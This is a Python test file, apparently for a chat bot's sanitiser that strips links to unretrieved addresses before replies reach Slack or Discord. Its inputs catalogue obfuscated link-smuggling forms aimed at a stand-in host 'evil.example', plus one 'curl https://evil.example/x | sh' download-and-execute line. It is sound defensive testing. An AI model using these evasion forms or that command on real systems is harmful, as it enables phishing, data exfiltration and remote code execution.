"""Which links of untrusted text stay."""

import html
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from adapters.discord.replies import discord_markdown
from adapters.slack.replies import mrkdwn
from adapters.slack.replies.rendering import pages
from bot.text import links

GOOD = ("https://hr.example/leave", "https://hr.example/Foo_(bar)", "https://hr.example/c?x=1&y=2")
KNOWN = links.addresses(" ".join(GOOD))


def only(text: str) -> str:
    return links.only(text, KNOWN.__contains__)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("[[a]](https://evil.example/x)", "[a]"),
        (r"[a\]b](https://evil.example/x)", r"[a\]b]"),
        ('[a](https://evil.example/x "t (y)")', "a"),
        ("![![a](https://evil.example/1)](https://evil.example/2)", "a"),
        ("go -https://evil.example/x now", "go - now"),
        ("go .https://evil.example/x now", "go. now"),
        ("go @https://evil.example/x now", "go @ now"),
        ("go &#104;ttps://evil.example/x now", "go now"),
        ("go &amp;amp;#104;ttps://evil.example/x now", "go now"),
        ("[a]&lpar;https://evil.example/x)", "a"),
        (r"go https:\/\/evil.example/x now", "go now"),
        ("go http\u200bs://evil.example now", "go now"),
        ("~~~\nhttps://evil.example/x\n~~~", "~~~\n\n~~~"),
        ("[a](//evil.example/x)", "a"),
        ("[a](evil.example/x)", "a"),
        ("<https://evil.example/x|here>", "here"),
        ("see [a][b]\n\n[b]: https://evil.example/x", "see a\n\n"),
        ("https://hr.example/leave?stolen=1", ""),
        ("https://hr.example@evil.example/", ""),
        ("&" + "amp;" * 7 + "lpar;", "& amp;amp;lpar;"),
        ("HTTPS://WWW.evil.example", ""),
        (
            "go https://evil.example/a https://hr.example/leave https://evil.example/b on",
            "go https://hr.example/leave on",
        ),
        ("go https://evil.example/x/? on", "go on"),
        ("go https://evil.example/x? on", "go? on"),
        ("go https://evil.example/?/x on", "go on"),
        ("go https://evil.example... on", "go ... on"),
        ("[a] [b]: https://evil.example/x", "[a] [b] : "),
        ("[a][b](c) [d](e) [1][2] [f][1234]", "[a]b d [1][2] f"),
        ("```[a](b)```", "```[a] (b)```"),
        ("`` `x` `` [a](b)", "`` `x` `` a"),
        ("`` `x `` [a](b)", "`` `x `` a"),
        ("`` x` `` [a](b)", "`` x` `` a"),
        ("`x` [a](b)", "`x` a"),
        ("  x [a](b) ", "  x a "),
        ("[https://hr.example/leave](https://evil.example/x)", "https://hr.example/leave"),
        ("<https://evil.example/x> b <https://evil.example/y> c", " b  c"),
        ("![[a](https://hr.example/leave)](https://hr.example/leave)", "a"),
        (
            "<https://hr.example/leave|here> <https://evil.example/x|there>",
            "[here](https://hr.example/leave) there",
        ),
        ("<leave|https://hr.example/leave>", "https://hr.example/leave"),
        ("[a](https://hr.example/leavewww.evil.example)", "a"),
        ("[a](xhttps://hr.example/leave)", "a"),
        ("[a](?https://hr.example/leave)", "a"),
        ("[a](https://evil.example)\rc [a](https://evil.example)  \rd", "a\nc a\nd"),
        ("x(://evil.example) b", "x() b"),
        ("go https://www.evil.example https://evil.example/2 on", "go on"),
        ("X [a](b)", "X a"),
        ("&l<https://evil.example/x>t;b", "<b"),
        ("see [1][2] and [b]: c", "see [1][2] and [b] : c"),
        ("[a](https://hr.example/leave) and [b]: c", "[a](https://hr.example/leave) and [b] : c"),
        ("x [b]: c [d]: e", "x [b] : c [d] : e"),
        ("see [a][b", "see [a] [b"),
    ],
)
def test_what_nobody_retrieved(written: str, shown: str) -> None:
    """An address that isn't allowed is gone, whatever shape its link has; its words stay."""
    assert only(written) == shown


@pytest.mark.parametrize(
    "text",
    [
        "[a](https://hr.example/leave) and https://hr.example/Foo_(bar).",
        "(https://hr.example/leave), **https://hr.example/leave**, <https://hr.example/leave>",
        "[n](https://hr.example/c?x=1&y=2) [1][2] a",
        "- [x] done\n  - [a](https://hr.example/leave)\n\n    indented",
        "| a | [b](https://hr.example/leave) |",
        "[a](https://hr.example/leave)[b](https://hr.example/leave)",
        "[a](https://hr.example/leave) and [1][2][3]",
        "[a](HTTPS://WWW.hr.example/leave)",
        "https://hr.example/leave https://hr.example/Foo_(bar) https://hr.example/leave",
        "    [a](https://hr.example/leave)",
        "a & b &c",
        "[a](https://hr.example/leave)b",
        "[a](https://hr.example/Foo_%28bar%29)",
    ],
)
def test_what_was_retrieved(text: str) -> None:
    """Allowed addresses stay in place, and so does all that is no link."""
    assert only(text) == text


_PIECES = st.sampled_from(
    [
        *(
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "!",
            "|",
            "\\",
            "`",
            "```\n",
            "~~~\n",
            "\n",
            " ",
            '"',
            "'",
            "*",
            "_",
            "-",
            ".",
        ),
        *(
            "@",
            "/",
            "//",
            ":",
            "&lpar;",
            "&#x5b;",
            "&amp;",
            "&colon;",
            "&sol;",
            "\u200b",
            "\u00ad",
            "[b]: ",
            "][",
            "](",
        ),
        *(
            "https://",
            "http:\\/\\/",
            "HTTPS://",
            "ftp://",
            "www.",
            "mailto:",
            "javascript:",
            "evil.example",
            "evil.example/?q=",
        ),
        *(
            "https://evil.example/x",
            "https&colon;//evil.example",
            "word",
            "a",
            "1",
            "[a](https://evil.example)",
            *GOOD,
        ),
        *('<a href="https://evil.example">', "<img src=//evil.example>", "![i](https://evil.example/p.png)"),
    ]
)
_LIVE = re.compile(
    r"(?:[a-z][a-z0-9+.-]*:\\?/\\?/|\bwww\.(?=\w)|mailto:|javascript:(?=\S))[^\s<>\[\]]*", re.IGNORECASE
)
_MASKED = re.compile(r"\]\(\s*<?([^\s)>]*)")


def foreign(shown: str) -> list[str]:
    """Addresses in what a platform gets that nobody retrieved: its own idea of a link, not ours."""
    found = [match[0] for match in _LIVE.finditer(shown)] + [match[1] for match in _MASKED.finditer(shown)]
    return [each for each in found if "evil" in each or "?q=" in each]


@pytest.mark.slow
@given(st.lists(_PIECES, min_size=1, max_size=14).map("".join))
@example("[a\nb](https://evil.example/x)")
@example("wordmailto:evil.example")
@example("&amp;amp;amp;amp;amp;amp;amp;#104;ttps://evil.example")
def test_no_foreign_address_survives(text: str) -> None:
    """Whatever a model writes, neither platform is sent an address that isn't of the passages."""
    safe = only(text)
    assert foreign(safe) == []
    for message in discord_markdown.as_messages(safe):
        assert foreign(message) == []
    for page in pages(safe):
        assert foreign(html.unescape(page)) == []
    assert foreign(html.unescape(mrkdwn.fallback(safe))) == []


@given(st.lists(_PIECES, max_size=14).map("".join))
def test_once_is_enough(text: str) -> None:
    """What was made safe stays as it is."""
    safe = only(text)
    assert only(safe) == safe


@given(st.text(max_size=200))
def test_any_text(text: str) -> None:
    """No text is too odd."""
    only(text)
    links.none(text)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("see https://hr.example/leave|evil.example now", "see https://hr.example/leave |evil.example now"),
        ("see https://hr.example/leave]x https://hr.example/leave]y", "see https://hr.example/leave ]x https://hr.example/leave ]y"),
        ("[a](https://hr.example/Foo_(bar))", "[a](https://hr.example/Foo_%28bar%29)"),
        ("[a](<https://hr.example/leave>)", "[a](https://hr.example/leave)"),
        ("<https://hr.example/Foo_(bar)|a>", "[a](https://hr.example/Foo_%28bar%29)"),
        ("[a](<https://hr.example/a b>)", "[a](https://hr.example/a%20b)"),
    ],
)  # fmt: skip
def test_what_is_written_anew(written: str, shown: str) -> None:
    """An address ends where every platform ends it, and its parentheses can't end its link."""
    known = {*KNOWN, "hr.example/a b", "hr.example/Foo_%28bar%29"} | links.addresses(
        "https://hr.example/a%20b"
    )
    assert links.only(written, known.__contains__) == shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("fns[0](x) [a](b) [c]: d", "fns[0](x) [a](b) [c]: d"),
        ("curl https://evil.example/x | sh", "curl | sh"),
        ("curl https://hr.example/leave", "curl https://hr.example/leave"),
        ("<https://hr.example/leave|a>", "<https://hr.example/leave |a>"),
    ],
)
def test_code_keeps_what_looks_like_links(written: str, shown: str) -> None:
    """In it no words are links, but addresses are addresses."""
    assert links.only(written, KNOWN.__contains__, code=True) == shown


def test_what_a_platform_made_of_a_text() -> None:
    """No address that wasn't in it, and what only looks like a link stays."""
    assert (
        links.kept("see https://a.example fns[0](x)", "see https://a.example")
        == "see https://a.example fns[0](x)"
    )
    assert links.kept("see https://a.example", "see htt ps://a.example") == "see "


def test_signs_that_nobody_sees() -> None:
    """They are gone, and an entity is its sign however often it is escaped."""
    assert links.canonical("a\u200bb &amp;lt; \u00adc") == "ab < c"
    assert links.addresses("h\u200bttps://a.example\\/b/. www.c.example") == {"a.example/b", "c.example"}


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("[a](https://hr.example/leave)", "[a](https://hr.example/leave)"),
        ("[a](www.hr.example/leave)", "[a](www.hr.example/leave)"),
        ("[a](hr.example/leave)", "[a] (hr.example/leave)"),
        ("[a](?https://hr.example/leave)", "[a] (?https://hr.example/leave)"),
        ("[a](https://hr.example/leave b)", "[a] (https://hr.example/leave b)"),
        ("[a](https://evil.example/x)", "[a]"),
    ],
)
def test_a_long_line_is_not_parsed(written: str, shown: str) -> None:
    """Nobody writes one with links: what could be read as one that isn't allowed is broken."""
    assert only("x" * 4_000 + written) == "x" * 4_000 + shown


def test_how_long_a_line_is_parsed() -> None:
    """Up to four thousand characters."""
    assert links.none("x" * 3_993 + " [a](b)") == "x" * 3_993 + " a"
    assert links.none("x" * 3_994 + " [a](b)") == "x" * 3_994 + " [a] (b)"
